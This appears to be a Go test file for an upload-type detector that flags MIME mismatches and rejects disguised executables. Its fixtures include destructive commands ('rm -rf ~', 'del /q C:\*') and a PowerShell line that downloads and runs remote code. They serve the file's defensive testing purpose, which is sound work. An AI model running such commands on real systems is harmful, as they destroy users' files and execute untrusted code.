package process

import (
	"errors"
	"strings"
	"testing"
)

func TestDetect(t *testing.T) {
	img := quadrants(16, 8)
	pe := append([]byte("MZ\x90\x00\x03\x00\x00\x00"), make([]byte, 120)...)
	copy(pe[0x3c:], []byte{0x80})
	pe = append(pe, []byte("PE\x00\x00")...)
	heic := append(box("ftyp", []byte("heic\x00\x00\x00\x00mif1heic")), box("meta")...)
	tests := []struct {
		name        string
		data        []byte
		claimName   string
		claimType   string
		accept      []string
		kind, mime  string
		ext         string
		mismatch    bool
		reason      string
		noteContain string
	}{
		{name: "png named jpg", data: encodePNG(t, img), claimName: "cat.jpg", claimType: "image/jpeg",
			kind: KindImage, mime: "image/png", ext: ".png", mismatch: true, noteContain: "content is image/png"},
		{name: "jpeg", data: encodeJPEG(t, img), claimName: "cat.JPEG", claimType: "image/jpeg",
			kind: KindImage, mime: "image/jpeg", ext: ".jpg"},
		{name: "gif", data: animatedGIF(t, 8, 8, 3), claimName: "a.gif", kind: KindImage, mime: "image/gif", ext: ".gif"},
		{name: "webp", data: webpFixture(t, "lossy"), claimName: "w.webp", kind: KindImage, mime: "image/webp", ext: ".webp"},
		{name: "heic without decoder is a file", data: heic, claimName: "IMG_1.HEIC", kind: KindFile, mime: "image/heic", ext: ".heic",
			noteContain: "no HEIC decoder"},
		{name: "mp4", data: mp4File(1000, 5000, 640, 480, false), claimName: "v.mp4", kind: KindVideo, mime: "video/mp4", ext: ".mp4"},
		{name: "opus", data: opusFile(48000), claimName: "voice.ogg", claimType: "audio/ogg", kind: KindAudio, mime: "audio/ogg", ext: ".opus"},
		{name: "pdf", data: []byte("%PDF-1.7\n1 0 obj<<>>endobj\n"), claimName: "doc.pdf", kind: KindPDF, mime: "application/pdf", ext: ".pdf"},
		{name: "markdown keeps its extension", data: []byte("# Notes\n\nplain words\n"), claimName: "notes.md", claimType: "text/markdown",
			kind: KindFile, mime: "text/plain", ext: ".md", mismatch: true},
		{name: "zip", data: zipOf(t, "a.txt", "hello"), claimName: "a.zip", kind: KindFile, mime: "application/zip", ext: ".zip"},
		{name: "docx", data: docxWithMacros(t, false), claimName: "d.docx", kind: KindFile, ext: ".docx",
			mime: "application/vnd.openxmlformats-officedocument.wordprocessingml.document"},
		{name: "html is a file", data: []byte("<!DOCTYPE html><html><body>hi</body></html>"), claimName: "p.html",
			kind: KindFile, mime: "text/html", ext: ".html"},
		{name: "accept images only", data: []byte("%PDF-1.4\n"), claimName: "x.pdf", accept: []string{KindImage}, reason: "type_not_allowed"},

		{name: "elf", data: append([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 56)...), claimName: "photo.jpg", claimType: "image/jpeg", reason: "executable"},
		{name: "pe", data: pe, claimName: "invoice.pdf", claimType: "application/pdf", reason: "executable"},
		{name: "mach-o", data: []byte{0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1}, claimName: "x", reason: "executable"},
		{name: "java class", data: []byte{0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52}, claimName: "A.class", reason: "executable"},
		{name: "shebang", data: []byte("#!/bin/sh\nrm -rf ~\n"), claimName: "readme.txt", claimType: "text/plain", reason: "executable"},
		{name: "odd shebang", data: []byte("#!/opt/evil/interp\nstuff\n"), claimName: "x.txt", reason: "executable"},
		{name: "bom shebang", data: []byte("\xef\xbb\xbf#!/usr/bin/env python3\nprint(1)\n"), claimName: "x.txt", reason: "executable"},
		{name: "batch by content", data: []byte("@ECHO OFF\r\ndel /q C:\\*\r\n"), claimName: "notes.txt", reason: "executable"},
		{name: "vbs by content", data: []byte("Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n"), claimName: "notes.txt", reason: "executable"},
		{name: "powershell by content", data: []byte("IEX (New-Object Net.WebClient).DownloadString('http://x')\n"), claimName: "a.txt", reason: "executable"},
		{name: "script by name", data: []byte("Get-ChildItem\n"), claimName: "run.PS1", claimType: "text/plain", reason: "executable"},
		{name: "exe by name", data: []byte("just text"), claimName: "setup.exe", reason: "executable"},
		{name: "jar", data: zipOf(t, "META-INF/MANIFEST.MF", "Main-Class: A\n", "A.class", "\xca\xfe\xba\xbe"), claimName: "a.zip", reason: "executable"},
		{name: "wasm", data: []byte("\x00asm\x01\x00\x00\x00"), claimName: "x.bin", reason: "executable"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d, err := detectBytes(Config{Accept: tt.accept}, tt.data, tt.claimName, tt.claimType)
			if tt.reason != "" {
				if Reason(err) != tt.reason {
					t.Fatalf("err = %v (reason %q), want reason %q", err, Reason(err), tt.reason)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if d.Kind != tt.kind || d.MIME != tt.mime || d.Ext != tt.ext || d.Mismatch != tt.mismatch {
				t.Errorf("got kind %q mime %q ext %q mismatch %v; want %q %q %q %v",
					d.Kind, d.MIME, d.Ext, d.Mismatch, tt.kind, tt.mime, tt.ext, tt.mismatch)
			}
			if tt.noteContain != "" && !strings.Contains(strings.Join(d.Notes, "|"), tt.noteContain) {
				t.Errorf("notes %q lack %q", d.Notes, tt.noteContain)
			}
		})
	}
}

func TestDetectFile(t *testing.T) {
	p := writeFile(t, "upload", encodePNG(t, quadrants(4, 4)))
	d, err := Detect(Config{}, p, "x.png", "image/png")
	if err != nil || d.MIME != "image/png" || d.Size == 0 {
		t.Fatalf("Detect = %+v, %v", d, err)
	}
	if _, err := Detect(Config{}, p+"-missing", "", ""); err == nil || Reason(err) != "" {
		t.Fatalf("missing file: err %v, reason %q; want an I/O error, not a rejection", err, Reason(err))
	}
}

func TestReason(t *testing.T) {
	_, err := detectBytes(Config{}, []byte("\x7fELF"), "", "")
	if !errors.Is(err, ErrExecutable) || errors.Is(err, ErrCorrupt) {
		t.Fatalf("errors.Is wrong for %v", err)
	}
	if Reason(nil) != "" || Reason(errors.New("disk full")) != "" {
		t.Fatal("non-rejections have no reason")
	}
}
